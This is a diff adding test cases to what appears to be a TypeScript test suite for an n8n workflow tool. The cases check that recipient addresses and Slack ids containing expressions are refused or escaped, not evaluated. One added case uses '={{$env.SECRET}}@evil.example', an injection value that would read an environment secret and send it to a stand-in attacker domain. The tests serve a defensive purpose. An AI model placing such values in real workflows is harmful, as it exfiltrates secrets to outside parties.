@@ -72,6 +72,9 @@ describe('what can be sent to one person alone', () => {
 
   it.each([
     ['an address that is several', given('emailSend', 2.1, mail), { mail: 'me@acme.example, them@x.example' }],
+    ['an address that n8n would work out', given('emailSend', 2.1, mail), { mail: '={{$env.SECRET}}@evil.example' }],
+    ['an address that begins with =', given('emailSend', 2.1, mail), { mail: '=me@acme.example' }],
+    ['an address with braces', given('emailSend', 2.1, mail), { mail: 'me{x}@acme.example' }],
     ['nobody who can be reached so', given('emailSend', 2.1, mail), { slack: 'U0ME' }],
     ['blocks, which may name another channel', given('slack', 2.3, { ...post, messageType: 'block' }), me],
     ['another operation', given('slack', 2.3, { ...post, operation: 'delete' }), me],
@@ -86,6 +89,11 @@ describe('what can be sent to one person alone', () => {
     ['another kind of step', given('httpRequest', 4.2, { url: 'https://example.com' }), me],
   ] as const)('not %s', (_, [kept, workflow], reached) => {
     expect(toOwnTests(kept, workflow, reached)).toEqual([]);
+  });
+
+  it('an id that begins with = is sent to as it is, and worked out by nobody', () => {
+    const [test] = toOwnTests(...given('slack', 2.3, post), { slack: '={{ $env.SECRET }}' });
+    expect(test?.node.parameters).toMatchObject({ user: { value: '={{ "={\\u007b $env.SECRET }\\u007d" }}' } });
   });
 
   it('nothing before there was a rehearsal', () => {
